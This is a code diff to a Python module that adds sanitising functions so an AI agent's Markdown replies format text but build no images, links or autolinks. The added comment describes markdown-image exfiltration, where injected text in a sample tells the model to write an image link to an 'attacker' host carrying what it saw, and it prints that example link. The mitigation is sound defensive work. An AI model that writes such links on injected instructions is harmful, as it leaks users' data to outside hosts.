@@ -92,6 +92,41 @@ def inert_markdown_keeping(text: Any, ids: list[str]) -> str:
     return "".join(part if i % 2 else inert_markdown(part) for i, part in enumerate(parts))
 
 
+# The agent's reply keeps its Markdown (emphasis, lists, headers, tables, code) but builds no image, link
+# or autolink: a sample the model read can tell it to write `![](https://attacker/?q=<what it saw>)`, and
+# the browser would fetch it (the markdown-image exfiltration of LLM chat apps). Outside code, `\`, `[`,
+# `]` and `<` are escaped; code (fenced blocks from a line's start, one-line spans) renders nothing anyway.
+_REPLY_CODE = re.compile(r"(^ {0,3}(`{3,}|~{3,})[^\n]*(?:\n.*?)?(?:\n {0,3}\2[ \t]*(?=\n|\Z)|\Z)|(?<!`)(`+)(?!`)[^\n]+?(?<!`)\3(?!`))",
+                         re.MULTILINE | re.DOTALL)
+_REPLY_ACTIVE = re.compile(r"([\\\[\]<])")
+
+
+def reply_markdown(text: Any) -> str:
+    """The agent's reply (model text) as Markdown that formats but fetches and links nothing: `[`, `]`, `<`
+    and `\\` are escaped outside code, and URL schemes, `www.` and `@` get an invisible word joiner."""
+    parts = _REPLY_CODE.split("" if text is None else str(text))
+    out, i = [], 0
+    while i < len(parts):  # split() gives prose, then the match and its two inner groups, and so on
+        out.append(_reply_prose(parts[i]))
+        if i + 1 < len(parts):
+            out.append(parts[i + 1])
+        i += 4
+    return "".join(out)
+
+
+def stream_markdown(before: str, piece: str) -> str:
+    """What to append to a streamed reply when `piece` follows the raw text `before`: the new end of the
+    whole text made inert as prose (the escapes and word joiners only ever add after what was sent, so a
+    URL split over two pieces still gets its joiner). Code may show a backslash until `reply_markdown`
+    of the whole reply replaces the stream."""
+    return _reply_prose(before + piece)[len(_reply_prose(before)):]
+
+
+def _reply_prose(text: str) -> str:
+    text = _REPLY_ACTIVE.sub(r"\\\1", text)
+    return _AUTOLINK.sub(lambda m: (m.group(1) + WORD_JOINER + m.group(2)) if m.group(1) else "@" + WORD_JOINER, text)
+
+
 def _clip(text: str, limit: int = SAMPLE_CHARS) -> str:
     if len(text) <= limit:
         return text
